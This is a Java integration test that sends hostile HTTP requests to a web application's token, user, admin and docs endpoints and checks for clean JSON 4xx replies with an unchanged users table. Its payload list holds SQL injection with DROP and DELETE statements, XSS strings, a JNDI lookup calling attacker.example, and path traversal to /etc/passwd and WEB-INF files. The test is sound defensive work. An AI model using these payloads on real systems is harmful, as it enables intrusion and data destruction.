package torii;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URL;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import javax.naming.InitialContext;
import javax.naming.NamingException;
import javax.sql.DataSource;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.TargetsContainer;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import torii.testing.Api;
import torii.testing.Deployments;
import torii.testing.RawHttp;

/**
 * Runs inside Payara Micro: sends every endpoint requests an attacker would, byte for byte, and checks that each gets
 * a 4xx in the JSON error shape without a trace of the code behind it, and that the users table is as it was.
 * <p>
 * Left out because Payara Micro's HTTP layer answers them before the application sees them, with an empty body, and
 * no setting changes that (the README's "Payara's own answers"): a request line or header over 16 KB (400), a NUL
 * byte in the path, raw or encoded (400), a path that climbs above the root or encodes its dots or slashes (400), an
 * undecodable path such as {@code /%zz} (200), and TRACE (405).
 */
@ExtendWith(ArquillianExtension.class)
class HostileInputIT {

    static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    static final String JSON = "Content-Type: application/json";
    static final List<String> HOSTILE = List.of(
            "' OR '1'='1", "admin'--", "\"; DROP TABLE users; --", "1; DELETE FROM users WHERE 1=1",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://attacker.example/a}",
            "../../../../etc/passwd", "johndoe\u0000admin", "\u202Eedcba", "%00", "a".repeat(2000));

    @Deployment
    @TargetsContainer("in-container")
    static WebArchive deployment() {
        return Deployments.inContainer();
    }

    @ArquillianResource
    URL deployment;

    /** One hostile request. */
    record Row(String name, String method, String target, List<String> headers, byte[] body) {

        static Row of(String name, String method, String target, List<String> headers, String body) {
            return new Row(name, method, target, headers, body == null ? null : body.getBytes(StandardCharsets.UTF_8));
        }

        @Override
        public String toString() {
            return name + " (" + method + " " + (target.length() > 60 ? target.substring(0, 60) + "…" : target) + ")";
        }
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    List<Row> rows(String userToken, String adminToken) {
        var rows = new ArrayList<Row>();
        var bearer = "Authorization: Bearer " + userToken;
        var admin = "Authorization: Bearer " + adminToken;
        for (var value : HOSTILE) {
            rows.add(Row.of("hostile username", "POST", "/token", List.of(FORM),
                    "username=" + encode(value) + "&password=wrong-password"));
            rows.add(Row.of("hostile password", "POST", "/token", List.of(FORM),
                    "username=johndoe&password=" + encode(value)));
            rows.add(Row.of("hostile grant type", "POST", "/token", List.of(FORM),
                    "grant_type=" + encode(value) + "&username=johndoe&password=secret"));
            rows.add(Row.of("hostile token", "GET", "/users/me", List.of("Authorization: Bearer " + encode(value)), null));
            rows.add(Row.of("hostile new password", "PUT", "/users/me/password", List.of(bearer, JSON),
                    "{\"current_password\":\"not-the-password\",\"new_password\":\"" + value.replace("\"", "\\\"")
                            .replace("\u0000", "\\u0000") + "\"}"));
            rows.add(Row.of("hostile audit page", "GET", "/admin/audit?page=" + encode(value), List.of(admin), null));
        }
        // Bytes that are not UTF-8, and NUL bytes, as they are on the wire.
        rows.add(new Row("raw invalid UTF-8 in a form", "POST", "/token", List.of(FORM),
                new byte[] {'u', 's', 'e', 'r', 'n', 'a', 'm', 'e', '=', (byte) 0xff, (byte) 0xfe, '&', 'p', 'a', 's', 's',
                        'w', 'o', 'r', 'd', '=', 'x'}));
        rows.add(Row.of("percent-encoded invalid UTF-8", "POST", "/token", List.of(FORM), "username=%ff%fe&password=%c3%28"));
        rows.add(Row.of("broken percent-encoding", "POST", "/token", List.of(FORM), "username=%zz&password=%"));
        rows.add(Row.of("raw NUL in a form", "POST", "/token", List.of(FORM), "username=john\u0000doe&password=secret"));
        rows.add(new Row("raw invalid UTF-8 in JSON", "PUT", "/users/me/password", List.of(bearer, JSON),
                new byte[] {'{', '"', 'c', '"', ':', '"', (byte) 0xc3, (byte) 0x28, '"', '}'}));
        rows.add(Row.of("raw NUL in a query", "GET", "/admin/audit?page=\u0000", List.of(admin), null));
        // Wrong content types, and JSON where a form is expected.
        rows.add(Row.of("JSON for a form", "POST", "/token", List.of(JSON), "{\"username\":\"johndoe\",\"password\":\"secret\"}"));
        rows.add(Row.of("plain text for a form", "POST", "/token", List.of("Content-Type: text/plain"), "username=johndoe&password=secret"));
        rows.add(Row.of("XML for a form", "POST", "/token", List.of("Content-Type: application/xml"), "<username>johndoe</username>"));
        rows.add(Row.of("multipart for a form", "POST", "/token", List.of("Content-Type: multipart/form-data; boundary=x"),
                "--x\r\nContent-Disposition: form-data; name=\"username\"\r\n\r\njohndoe\r\n--x--\r\n"));
        rows.add(Row.of("no content type", "POST", "/token", List.of(), "username=johndoe&password=secret"));
        rows.add(Row.of("unknown charset", "POST", "/token", List.of(FORM + "; charset=klingon"), "username=johndoe&password=x"));
        rows.add(Row.of("illegal charset name", "POST", "/token", List.of(FORM + "; charset=@@"), "username=johndoe&password=x"));
        rows.add(Row.of("malformed content type", "POST", "/token", List.of("Content-Type: ;;;"), "username=johndoe&password=x"));
        rows.add(Row.of("form for JSON", "PUT", "/users/me/password", List.of(bearer, FORM), "current_password=x&new_password=y"));
        rows.add(Row.of("plain text for JSON", "PUT", "/users/me/password", List.of(bearer, "Content-Type: text/plain"), "{}"));
        rows.add(Row.of("malformed JSON", "PUT", "/users/me/password", List.of(bearer, JSON), "{\"current_password\":"));
        rows.add(Row.of("JSON array", "PUT", "/users/me/password", List.of(bearer, JSON), "[1,2,3]"));
        rows.add(Row.of("JSON of the wrong types", "PUT", "/users/me/password", List.of(bearer, JSON),
                "{\"current_password\":{\"$ne\":null},\"new_password\":[1]}"));
        rows.add(Row.of("JSON null", "PUT", "/users/me/password", List.of(bearer, JSON), "null"));
        rows.add(Row.of("empty JSON body", "PUT", "/users/me/password", List.of(bearer, JSON), ""));
        rows.add(Row.of("deeply nested JSON", "PUT", "/users/me/password", List.of(bearer, JSON),
                "[".repeat(5000) + "]".repeat(5000)));
        // Repeated parameters and headers.
        rows.add(Row.of("repeated username", "POST", "/token", List.of(FORM), "username=johndoe&username=admin&password=secret"));
        rows.add(Row.of("repeated password", "POST", "/token", List.of(FORM), "username=johndoe&password=x&password=secret"));
        rows.add(Row.of("repeated grant type", "POST", "/token", List.of(FORM),
                "grant_type=password&grant_type=client_credentials&username=johndoe&password=secret"));
        rows.add(Row.of("repeated Authorization", "GET", "/users/me", List.of(bearer, bearer), null));
        rows.add(Row.of("repeated Content-Type", "POST", "/token", List.of(FORM, JSON), "username=johndoe&password=x"));
        rows.add(Row.of("repeated audit page", "GET", "/admin/audit?page=0&page=x", List.of(admin), null));
        // Oversized bodies, parameters and tokens.
        rows.add(Row.of("body over 64 KB", "POST", "/token", List.of(FORM),
                "username=johndoe&password=" + "a".repeat(70_000)));
        rows.add(Row.of("JSON body over 64 KB", "PUT", "/users/me/password", List.of(bearer, JSON),
                "{\"current_password\":\"" + "a".repeat(70_000) + "\"}"));
        rows.add(Row.of("username over 1 KB", "POST", "/token", List.of(FORM), "username=" + "u".repeat(1025) + "&password=x"));
        rows.add(Row.of("username over 1 KB in UTF-8", "POST", "/token", List.of(FORM),
                "username=" + encode("é".repeat(513)) + "&password=x"));
        rows.add(Row.of("password of 4 KB", "POST", "/token", List.of(FORM), "username=johndoe&password=" + "p".repeat(4096)));
        rows.add(Row.of("long garbage token", "GET", "/users/me/items",
                List.of("Authorization: Bearer " + "t".repeat(7000)), null));
        rows.add(Row.of("query string of many parameters", "GET", "/admin/audit?" + "a=1&".repeat(1500), List.of(admin), null));
        // Tokens that are not tokens, on every protected endpoint.
        for (var target : List.of("/users/me", "/users/me/items", "/admin/audit")) {
            for (var authorization : List.of("Bearer", "Bearer ", "Bearer a.b.c", "Bearer ' OR 1=1 --",
                    "Bearer <script>", "Basic am9obmRvZTpzZWNyZXQ=", "Bearer " + userToken + "x")) {
                rows.add(Row.of("bad Authorization " + authorization.length(), "GET", target,
                        List.of("Authorization: " + authorization), null));
            }
        }
        rows.add(Row.of("no token for a password change", "PUT", "/users/me/password", List.of(JSON),
                "{\"current_password\":\"secret\",\"new_password\":\"long-enough-password\"}"));
        rows.add(Row.of("user token for the audit trail", "GET", "/admin/audit", List.of(bearer), null));
        // Path tricks.
        for (var target : List.of("/users/me/../../WEB-INF/web.xml", "/docs/../WEB-INF/web.xml",
                "/docs/%2e%2e%2fMETA-INF%2fMANIFEST.MF", "/WEB-INF/classes/", "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF",
                "/docs/..;/WEB-INF/web.xml", "/token/..;/WEB-INF/web.xml", "/docs/.env",
                "/admin/..;/WEB-INF/web.xml", "/admin/chart.umd.js.map", "/admin/audit/../../token", "/users/%2e%2e/admin/audit", "/error", "/no/such/path")) {
            rows.add(Row.of("path trick", "GET", target, List.of(), null));
        }
        // Methods the endpoints do not take.
        rows.add(Row.of("DELETE the token endpoint", "DELETE", "/token", List.of(), null));
        rows.add(Row.of("PUT the token endpoint", "PUT", "/token", List.of(FORM), "username=johndoe&password=secret"));
        rows.add(Row.of("PATCH the own account", "PATCH", "/users/me", List.of(bearer, JSON), "{\"disabled\":false}"));
        rows.add(Row.of("DELETE the own account", "DELETE", "/users/me", List.of(bearer), null));
        rows.add(Row.of("POST the password", "POST", "/users/me/password", List.of(bearer, JSON), "{}"));
        rows.add(Row.of("DELETE the audit trail", "DELETE", "/admin/audit", List.of(admin), null));
        rows.add(Row.of("POST the status", "POST", "/status", List.of(JSON), "{}"));
        rows.add(Row.of("PUT the docs", "PUT", "/docs", List.of("Content-Type: text/html"), "<h1>defaced</h1>"));
        rows.add(Row.of("a form posted to the chat page", "POST", "/", List.of(FORM), "username=johndoe&password=secret"));
        rows.add(Row.of("made-up method", "BREW", "/token", List.of(), null));
        return rows;
    }

    @Test
    void everyHostileRequestGetsAJsonClientErrorAndNoStoredUserChanges() throws Exception {
        var api = Api.at(deployment);
        var raw = new RawHttp(api.base());
        var rows = rows(api.login("johndoe", "secret"), api.login("admin", "secretadmin"));
        assertTrue(rows.size() >= 100, rows.size() + " rows");
        var before = usersTable();
        var failures = new ArrayList<String>();
        for (var row : rows) {
            try {
                var reply = raw.send(row.method(), row.target(), row.headers(), row.body());
                var problem = problem(reply);
                if (problem != null) {
                    failures.add(row + ": " + problem + ": " + reply.status() + " " + abbreviate(reply.body()));
                }
            } catch (RuntimeException unanswered) {
                failures.add(row + ": no answer: " + unanswered);
            }
        }
        assertEquals(List.of(), failures, failures.size() + " of " + rows.size() + " rows failed");
        assertEquals(before, usersTable(), "the users table is as it was");
    }

    /** What is wrong with the reply, or null. */
    static String problem(Api.Reply reply) {
        if (reply.status() < 400 || reply.status() >= 500) {
            return "not a client error";
        }
        var type = reply.header("Content-Type");
        if (type == null || !type.startsWith("application/json")) {
            return "not JSON but " + type;
        }
        if (!"nosniff".equals(reply.header("X-Content-Type-Options"))) {
            return "no X-Content-Type-Options";
        }
        var body = reply.json();
        if (!body.containsKey("detail")) {
            return "no detail";
        }
        for (var trace : List.of("Exception", "at torii.", "java.", "jakarta.", "org.glassfish", "<html")) {
            if (reply.body().contains(trace)) {
                return "a trace of the code: " + trace;
            }
        }
        return null;
    }

    static String abbreviate(String text) {
        return text.length() > 200 ? text.substring(0, 200) + "…" : text;
    }

    /** Every column of every user, in a stable order. */
    static List<String> usersTable() throws NamingException, SQLException {
        var dataSource = (DataSource) new InitialContext().lookup("java:comp/DefaultDataSource");
        assertNotNull(dataSource);
        try (var connection = dataSource.getConnection();
             var query = connection.createStatement();
             var result = query.executeQuery("SELECT * FROM users ORDER BY username")) {
            var rows = new ArrayList<String>();
            int columns = result.getMetaData().getColumnCount();
            while (result.next()) {
                var row = new StringBuilder();
                for (int i = 1; i <= columns; i++) {
                    row.append(result.getString(i)).append('|');
                }
                rows.add(row.toString());
            }
            assertFalse(rows.isEmpty());
            return rows;
        }
    }
}
